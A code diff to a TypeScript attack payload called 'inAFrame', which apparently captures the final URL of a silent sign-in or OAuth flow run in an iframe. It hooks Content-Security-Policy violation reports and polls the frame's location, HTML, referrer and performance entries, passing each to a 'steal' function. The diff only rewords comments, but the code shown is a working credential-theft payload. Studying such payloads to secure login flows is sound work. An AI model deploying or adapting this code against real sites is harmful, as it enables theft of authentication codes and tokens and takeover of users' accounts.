@@ -1,8 +1,8 @@
 import type { Payload } from "./attack.js";
 
-/** The silent flow in a frame, and every way in which a page may learn where the frame has ended. */
+/** The silent flow in a frame, and all ways in which a page may learn the frame's final URL. */
 export const inAFrame: Payload = async (it) => {
-  // A policy of the attacker's own may be violated by the redirect to the callback, and the report names what was blocked.
+  // The redirect to the callback violates the attacker's own policy, and the report names the blocked URL.
   addEventListener("securitypolicyviolation", (event) =>
     it.steal(event.blockedURI, event.documentURI, event.sourceFile),
   );
@@ -15,7 +15,7 @@ export const inAFrame: Payload = async (it) => {
         it.steal(location.href, document.URL, document.documentElement.outerHTML, document.referrer);
         it.steal(performance.getEntries(), navigation?.currentEntry.url);
       } catch {
-        // The frame is of another origin now.
+        // The frame is cross-origin now.
       }
       await it.pause(10);
     }
